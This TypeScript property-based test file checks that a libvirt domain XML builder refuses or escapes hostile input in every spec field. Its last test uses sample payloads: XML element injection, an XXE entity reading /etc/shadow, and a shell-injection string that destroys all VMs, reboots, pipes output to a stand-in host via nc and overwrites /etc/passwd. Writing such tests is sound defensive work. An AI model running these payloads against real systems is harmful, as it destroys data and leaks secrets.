import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import {
  checkDiskTarget, checkDomainName, checkFreeText, checkHostPath, checkMacAddress, checkMachineType, checkPciAddress, checkSocketPath,
  checkUuid, InvalidSpecError, type RuleResult,
} from '#vim/naming';
import { hostileString } from '#vim/naming/testing';
import type { DomainSpec } from './domain-spec.js';
import { buildDomainXml } from './domain-xml.js';
import { sampleDomainSpec } from './testing/domain-fixture.js';
import { find, type ParsedElement, parseStrictXml, structure, textOf } from './testing/strict-xml.js';

/**
 * The hardening claim, as a property: whatever string lands in any field of a DomainSpec, the
 * builder either refuses it (InvalidSpecError naming that field) or produces XML with exactly the
 * element structure of the benign spec, in which the string decodes back unchanged at the
 * intended place. Acceptance is also exactly the naming rule's verdict, no more and no less.
 */
interface Field {
  path: string;
  rule: (s: string) => RuleResult<unknown>;
  inject: (spec: DomainSpec, s: string) => DomainSpec;
  read: (root: ParsedElement) => string[];
  /** Valid values too, so the accepting branch is exercised, not only refusals. */
  valid?: fc.Arbitrary<string>;
}

const segment = fc.stringMatching(/^[A-Za-z0-9._+-]{1,12}$/).filter((s) => s !== '.' && s !== '..');
const hostPath = fc.array(segment, { minLength: 1, maxLength: 5 }).map((parts) => '/' + parts.join('/'));
const hex = (max: number, width: number) => fc.integer({ min: 0, max }).map((n) => n.toString(16).padStart(width, '0'));

const attr = (e: ParsedElement | undefined, name: string) => e?.attributes[name] ?? '<missing>';
const nic = (spec: DomainSpec, i: number, change: Record<string, string>) =>
  spec.interfaces.map((n, j) => (j === i ? ({ ...n, ...change } as typeof n) : n));

const FIELDS: Field[] = [
  {
    path: '/metadata/vnfInstanceName',
    rule: (s) => checkFreeText(s),
    inject: (spec, s) => ({ ...spec, metadata: { ...spec.metadata, vnfInstanceName: s } }),
    read: (root) => [textOf(find(root, 'title')[0]), textOf(find(root, 'metadata', 'vim:instance', 'vim:vnf-instance')[0])],
  },
  {
    path: '/metadata/vduId',
    rule: (s) => checkFreeText(s),
    inject: (spec, s) => ({ ...spec, metadata: { ...spec.metadata, vduId: s } }),
    read: (root) => [attr(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0], 'id')],
  },
  {
    path: '/metadata/vnfInstanceId',
    rule: checkUuid,
    inject: (spec, s) => ({ ...spec, metadata: { ...spec.metadata, vnfInstanceId: s } }),
    read: (root) => [attr(find(root, 'metadata', 'vim:instance', 'vim:vnf-instance')[0], 'id')],
    valid: fc.uuid({ version: 4 }),
  },
  {
    path: '/name',
    rule: (s) => (s === 'vim-3f2c9a4e-8b1d-4c6e-9f00-1a2b3c4d5e6f' ? checkDomainName(s) : { ok: false, message: 'differs from uuid' }),
    inject: (spec, s) => ({ ...spec, name: s }),
    read: (root) => [textOf(find(root, 'name')[0])],
  },
  {
    path: '/uuid',
    rule: checkUuid,
    inject: (spec, s) => ({ ...spec, uuid: s, name: `vim-${s}` }),
    read: (root) => [textOf(find(root, 'uuid')[0]), textOf(find(root, 'name')[0]).slice(4), attr(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0], 'instance')],
    valid: fc.uuid({ version: [4, 7] }),
  },
  { path: '/machine', rule: checkMachineType, inject: (spec, s) => ({ ...spec, machine: s }), read: (root) => [attr(find(root, 'os', 'type')[0], 'machine')], valid: fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,63}$/) },
  {
    path: '/disks/0/path',
    rule: (s) => checkHostPath(s),
    inject: (spec, s) => ({ ...spec, disks: [{ ...spec.disks[0], path: s }] }),
    read: (root) => [attr(find(root, 'devices', 'disk', 'source')[0], 'file')],
    valid: hostPath,
  },
  {
    path: '/disks/0/targetDev',
    rule: (s) => (s === 'sda' ? { ok: false, message: 'reserved for the CD-ROM' } : checkDiskTarget(s)),
    inject: (spec, s) => ({ ...spec, disks: [{ ...spec.disks[0], targetDev: s }] }),
    read: (root) => [attr(find(root, 'devices', 'disk', 'target')[0], 'dev')],
    valid: fc.stringMatching(/^(vd|sd)[a-z]{1,2}$/),
  },
  {
    path: '/cloudInitIso',
    rule: (s) => checkHostPath(s),
    inject: (spec, s) => ({ ...spec, cloudInitIso: s }),
    read: (root) => [attr(find(root, 'devices', 'disk', 'source')[1], 'file')],
    valid: hostPath,
  },
  {
    path: '/consoleLog',
    rule: (s) => checkHostPath(s),
    inject: (spec, s) => ({ ...spec, consoleLog: s }),
    read: (root) => [attr(find(root, 'devices', 'serial', 'log')[0], 'file')],
    valid: hostPath,
  },
  {
    path: '/interfaces/0/socketPath',
    rule: checkSocketPath,
    inject: (spec, s) => ({ ...spec, interfaces: nic(spec, 0, { socketPath: s }) }),
    read: (root) => [attr(find(root, 'devices', 'interface', 'source')[0], 'path')],
    valid: hostPath,
  },
  {
    path: '/interfaces/0/mac',
    rule: (s) => (s === '52:54:00:00:00:02' ? { ok: false, message: 'used by the VF' } : checkMacAddress(s)),
    inject: (spec, s) => ({ ...spec, interfaces: nic(spec, 0, { mac: s }) }),
    read: (root) => [attr(find(root, 'devices', 'interface', 'mac')[0], 'address')],
    valid: fc.tuple(hex(255, 2), hex(255, 2), hex(255, 2)).map((b) => `52:54:00:${b.join(':')}`),
  },
  {
    path: '/interfaces/1/pciAddress',
    rule: checkPciAddress,
    inject: (spec, s) => ({ ...spec, interfaces: nic(spec, 1, { pciAddress: s }) }),
    read: (root) => {
      const a = find(root, 'devices', 'interface', 'source', 'address')[0]?.attributes ?? {};
      const n = (k: string, w: number) => parseInt(a[k], 16).toString(16).padStart(w, '0');
      return [`${n('domain', 4)}:${n('bus', 2)}:${n('slot', 2)}.${n('function', 1)}`];
    },
    valid: fc.tuple(hex(0xffff, 4), hex(255, 2), hex(0x1f, 2), hex(7, 1)).map(([d, b, s, f]) => `${d}:${b}:${s}.${f}`),
  },
];

const baseline = structure(parseStrictXml(buildDomainXml(sampleDomainSpec())));

function build(spec: DomainSpec): { xml: string } | { error: unknown } {
  try {
    return { xml: buildDomainXml(spec) };
  } catch (error) {
    return { error };
  }
}

describe('hostile strings in any DomainSpec field', () => {
  test.each(FIELDS.map((f) => [f.path, f] as const))('%s: refused, or escaped data in the same structure', (path, field) => {
    fc.assert(
      fc.property(field.valid ? fc.oneof(hostileString, field.valid) : hostileString, (s) => {
        const result = build(field.inject(sampleDomainSpec(), s));
        const accepted = field.rule(s).ok;
        if ('error' in result) {
          expect(result.error).toBeInstanceOf(InvalidSpecError);
          expect((result.error as InvalidSpecError).problems.map((p) => p.path)).toContain(path);
          expect(accepted).toBe(false);
          return;
        }
        expect(accepted).toBe(true);
        const root = parseStrictXml(result.xml);
        expect(structure(root)).toEqual(baseline);
        for (const value of field.read(root)) expect(value).toBe(s);
      }),
      { numRuns: 400 },
    );
  });

  test.each([
    '</title></domain><domain type="kvm"><name>evil</name>',
    '</description><devices><hostdev mode="subsystem" type="pci"><source><address bus="0x00"/></source></hostdev>',
    ']]><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>&xxe;',
    `'; virsh destroy --all; $(reboot) \`id\` | nc evil 1 && echo >/etc/passwd`,
  ])('a known hostile name stays text: %s', (name) => {
    const root = parseStrictXml(buildDomainXml(sampleDomainSpec({ metadata: { ...sampleDomainSpec().metadata, vnfInstanceName: name, vduId: name } })));
    expect(structure(root)).toEqual(baseline);
    expect(textOf(find(root, 'title')[0])).toBe(name);
    expect(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes.id).toBe(name);
    expect(find(root, 'name')).toHaveLength(1);
    expect(find(root, 'devices', 'hostdev')).toHaveLength(0);
  });
});
